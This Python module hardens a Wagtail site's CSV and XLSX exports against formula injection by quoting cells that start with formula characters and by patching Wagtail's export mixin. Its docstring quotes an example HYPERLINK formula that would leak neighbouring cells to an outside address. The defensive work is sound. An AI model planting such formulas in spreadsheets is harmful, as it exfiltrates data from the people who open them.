"""Spreadsheet exports that run no formula ("CSV injection", OWASP).

A cell that starts with =, +, - or @ (or a tab or a carriage return, after which a
spreadsheet reads the same characters) is a formula to Excel and LibreOffice: a visitor's
suggestion `=HYPERLINK("https://…?"&A1, "Open")` would send the neighbouring cells to that
address when HR clicks it. Every export prefixes such a cell with a quote, as OWASP
recommends, so it is shown as the text it was.

One helper for every export: the questionnaire's CSV (home/questionnaire_results.py) calls it,
and `protect_wagtail_exports` puts it into Wagtail's SpreadsheetExportMixin, the one class
behind every CSV and XLSX download of the admin: form submissions (the suggestions form),
the reports (search terms typed by visitors, locked and aging pages, site history, workflows)
and the redirects.
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value, with a quote first when it is text a spreadsheet would run as a formula.

    Numbers, dates and None are left as they are (a number is never run; -1 stays a number).
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def protect_wagtail_exports():
    """Wrap Wagtail's export of each cell and heading with safe_cell (called once, at start-up).

    Wagtail only turns back to text what openpyxl takes for a formula (a cell starting with
    "=", in XLSX); its CSV is written as is. Both of its hooks are plain methods that every
    export view inherits, so wrapping them here covers the views Wagtail defines itself.
    """
    if getattr(SpreadsheetExportMixin, "_formula_safe", False):
        return
    preprocess = SpreadsheetExportMixin.preprocess_field_value
    heading = SpreadsheetExportMixin.get_heading

    def preprocess_field_value(self, field, value, export_format):
        return safe_cell(preprocess(self, field, value, export_format))

    def get_heading(self, queryset, field):
        # A form field's label, written by an editor, is a heading.
        return safe_cell(heading(self, queryset, field))

    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.get_heading = get_heading
    SpreadsheetExportMixin._formula_safe = True
